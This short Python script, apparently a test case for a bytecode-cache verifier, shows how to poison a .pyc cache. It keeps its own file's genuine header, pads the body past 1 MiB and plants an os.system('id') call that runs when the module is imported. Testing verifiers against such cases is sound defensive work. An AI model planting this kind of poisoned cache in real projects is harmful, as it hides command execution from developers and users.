# Bytecode poisoning past the verification's bounds: a genuine header of
# this source before a body of over 1 MiB (a payload and a big constant).
# It cannot be carried out and verified: it must still be reported.
import importlib.util
import marshal
import py_compile

cache = importlib.util.cache_from_source(__file__)
py_compile.compile(__file__, cfile=cache, doraise=True)
with open(cache, "rb") as f:
    header = f.read(16)
payload = compile("import os\nPAD = " + repr("x" * (3 << 19)) + "\nos.system('id')\n", __file__, "exec")
with open(cache, "wb") as f:
    f.write(header + marshal.dumps(payload))
print("planted", cache)
